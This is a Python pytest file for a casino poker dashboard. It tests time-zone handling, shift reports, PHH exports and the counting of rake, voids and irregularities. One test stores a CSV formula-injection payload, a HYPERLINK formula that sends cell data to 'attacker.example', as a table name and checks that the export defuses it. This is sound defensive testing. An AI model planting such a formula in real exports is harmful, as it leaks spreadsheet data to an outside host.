"""Issue 34, item 1 — the casino's time zone everywhere on the dashboard: pages, forms, CSV and PHH are in the
casino's time (the service's ``tz``, Europe/Madrid here, as ``pokertable serve`` takes it by default), with the zone
named; a time typed without a zone is the casino's; the shift report's default range is the casino's current shift
(00:00, 08:00, 16:00 local, as the shuffler monitor counts them), never a rolling eight hours.  Also: a name a
person chose never runs as a formula in the CSV a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest

from domain.shifts import shift_start
from service.api import commands_pb2 as cmd
from service.api import table_service_pb2 as svc
from service.api import types_pb2 as pb
from service.cli.conventions import show_time
from tests.support.grpc_support import act, deal, open_circle, seat, start
from tests.support.web_support import CASINO, Pit, holdem_table, pit_service, sign_in, uncontested_hand, until

HAND_ROW = re.compile(r'<tr data-table="Mesa 1" data-hand="(\d+)">\s*<td>[^<]*</td><td>\d+</td><td>([^<]+)</td>')


@pytest.fixture
def pit(tmp_path: Path) -> Iterator[Pit]:
    with pit_service(tmp_path) as running:
        yield running


def one_hand(pit: Pit) -> datetime:
    """Mesa 1's first hand, over at once (two folds); when it started, as the service stored it."""
    uncontested_hand(pit)
    (hand,) = pit.app.views.search_hands("Mesa 1")
    return hand.started


def listed(http: httpx.Client, **query: str) -> list[tuple[int, str]]:
    """The hands the disputes search lists: their number and their start as the page shows it."""
    reply = http.get("/disputes", params={"table": "Mesa 1", **query})
    assert reply.status_code == 200, reply.text
    return [(int(number), started) for number, started in HAND_ROW.findall(reply.text)]


def report_cells(pit: Pit, table: str) -> list[str]:
    """A table's line of the shift report as the pit boss reads it (once the table is in it): its cells' texts."""
    row = re.compile(rf'<tr data-table="{re.escape(table)}">(.*?)</tr>', re.S)
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        until(lambda: row.search(http.get("/reports/shift").text) is not None, f"{table} in the report")
        found = row.search(http.get("/reports/shift").text)
        assert found is not None
        return re.findall(r"<td>([^<]*)</td>", found.group(1))


def test_a_hand_s_start_on_the_dashboard_is_the_command_line_s_and_the_zone_is_named(pit: Pit) -> None:
    started = one_hand(pit)
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        until(lambda: bool(listed(http)), "the hand found")
        assert listed(http) == [(1, show_time(started, CASINO))]  # `pokertable hands` prints the same text
        page = http.get("/disputes", params={"table": "Mesa 1"}).text
        assert "Started (Europe/Madrid)" in page and '<span class="zone"' in page


def test_a_time_typed_without_a_zone_is_the_casino_s(pit: Pit) -> None:
    """Half an hour before the hand, on the casino's clock: found.  Read as UTC (an hour behind Madrid in winter,
    two in summer) it would be after the hand, and the hand would not be found."""
    started = one_hand(pit)
    before = (started.astimezone(CASINO) - timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M")
    after = (started.astimezone(CASINO) + timedelta(minutes=30)).strftime("%Y-%m-%dT%H:%M")
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        until(lambda: bool(listed(http)), "the hand found")
        assert [number for number, _ in listed(http, since=before, until=after)] == [1]
        assert listed(http, since=after) == []
        second = started.astimezone(UTC).replace(microsecond=0)  # a zone typed is kept: UTC, read as UTC
        assert listed(http, until=(second - timedelta(seconds=1)).isoformat()) == []
        assert [number for number, _ in listed(http, until=(second + timedelta(seconds=1)).isoformat())] == [1]


def test_the_shift_report_covers_the_casino_s_current_shift_and_its_csv_says_so(pit: Pit) -> None:
    one_hand(pit)
    now = datetime.now(UTC)
    shift = shift_start(now, CASINO)
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        page = http.get("/reports/shift")
        assert page.status_code == 200, page.text
        heading = re.search(r"<h1>Shift report <small>([^<]+)</small>", page.text)
        assert heading is not None
        assert heading.group(1).startswith(shift.strftime("%Y-%m-%d %H:%M") + " – ") and heading.group(1).endswith(
            " Europe/Madrid")
        assert f'name="from" value="{shift.strftime("%Y-%m-%dT%H:%M")}"' in page.text
        until(lambda: 'data-table="Mesa 1"' in http.get("/reports/shift").text, "Mesa 1 in the report")
        reply = http.get("/reports/shift", params={"from": shift.strftime("%Y-%m-%dT%H:%M"), "format": "csv"})
        rows = list(csv.reader(io.StringIO(reply.text)))
        assert rows[0][0] == "from" and rows[0][1] == shift.isoformat(timespec="seconds")
        assert rows[0][3].endswith(("+01:00", "+02:00"))  # the casino's offset, not UTC's
        assert 'filename="shift-' + shift.strftime("%Y%m%dT%H%M") in reply.headers["content-disposition"]


def test_a_table_s_name_never_runs_as_a_formula_in_the_csv(pit: Pit) -> None:
    """Attack (issue 34, "also found"): a table opened as ``=HYPERLINK(…)`` is a text in the downloaded CSV."""
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
    open_circle(pit.client("pit"), evil, pb.GAME_HOLDEM, blinds=[1, 2])
    tables = {t.table for t in pit.client("pit").ListTables(svc.ListTablesRequest()).tables}
    assert evil in tables
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        until(lambda: "HYPERLINK" in http.get("/reports/shift").text, "the table in the report")
        text = http.get("/reports/shift", params={"format": "csv"}).text
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        assert "'" + evil in cells and evil not in cells
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@") or (cell[:1] == "-" and not
                                                                              cell[1:].isdigit())]


def test_a_phh_export_from_the_dashboard_is_in_the_casino_s_time(pit: Pit) -> None:
    started = one_hand(pit)
    with httpx.Client(base_url=pit.url) as http:
        sign_in(http, "pit")
        reply = http.get("/export/Mesa%201/1.phh")
        assert reply.status_code == 200, reply.text
        assert 'time_zone = "Europe/Madrid"' in reply.text
        local = started.astimezone(CASINO)
        offset = local.strftime("%z")
        assert f"time = {local:%H:%M:%S}\n" in reply.text and f'_utc_offset = "{offset[:3]}:{offset[3:]}"' in reply.text


def test_the_shift_report_counts_every_irregularity_and_voids_apart(pit: Pit) -> None:
    """Issue 34 ("shift figures wrong"): a deck check that counted wrong (it holds the table, R-HOLD-1) and a device
    fault are the shift's irregularities (only device faults were counted); a void is counted as a void."""
    dealer = holdem_table(pit)
    dealer.RecordDeviceReport(svc.RecordDeviceReportRequest(
        command_id="check-1", table="Mesa 1", device="PT-SHUF", serial="SHUF-0001",
        kind=pb.DEVICE_REPORT_KIND_DECK_CHECK, colour=pb.DECK_COLOUR_BLUE,
        result="51 counted, INCOMPLETE: missing 1, duplicated 0, foreign 0"))
    dealer.RecordDeviceReport(svc.RecordDeviceReportRequest(
        command_id="fault-1", table="Mesa 1", device="PT-SHOE", serial="SHOE-0001",
        kind=pb.DEVICE_REPORT_KIND_FAULT, colour=pb.DECK_COLOUR_RED, result="double feed"))
    for hold in pit.client("pit").GetTable(svc.GetTableRequest(table="Mesa 1")).view.holds:
        pit.client("pit").AcknowledgeAlert(svc.AcknowledgeAlertRequest(
            command_id=f"ack-{hold.position}", table="Mesa 1", position=hold.position, reason="recounted"))
    start(dealer, "Mesa 1", pb.DECK_COLOUR_RED)
    act(pit.client("pit"), "Mesa 1", void=cmd.Void(rule="R-CIRC-14", reason="misdeal"))
    cells = report_cells(pit, "Mesa 1")
    assert cells[-2:] == ["1", "2"], cells  # voids, irregularities


def test_a_pot_carried_from_a_blank_hand_is_no_rake_in_the_shift_report(pit: Pit) -> None:
    """Issue 34 ("shift figures wrong"): at five-card draw nobody opens, the three antes are carried to the next
    hand (R-DRAW-3); the shift report counted them as the house's rake. The rake is now the pots' own (R-CIRC-12):
    0 at a table that takes none."""
    open_circle(pit.client("pit"), "Mesa 1", pb.GAME_DRAW, structure=pb.BETTING_STRUCTURE_FIXED_LIMIT, ante=1,
                small_bet=2, big_bet=4)
    dealer = pit.client("dealer")
    for number in (1, 2, 3):
        seat(dealer, "Mesa 1", number, 50)
    start(dealer, "Mesa 1", pb.DECK_COLOUR_RED)
    deal(dealer, "Mesa 1", "Jc Ac Th Jd Kd Td 7c Qh 9s 8c Ts 9d 9c 8s 7h")
    for number in (1, 2, 3):  # la mano, then clockwise: nobody opens
        act(dealer, "Mesa 1", check=cmd.Check(seat=number))
    (hand,) = pit.app.views.search_hands("Mesa 1")
    assert hand.outcome == "blank" and sum(hand.net.values()) == -3 and hand.rake == 0
    cells = report_cells(pit, "Mesa 1")
    assert cells[:5] == ["Mesa 1", "draw", "1", cells[3], "0"], cells  # table, game, hands, per hour, rake
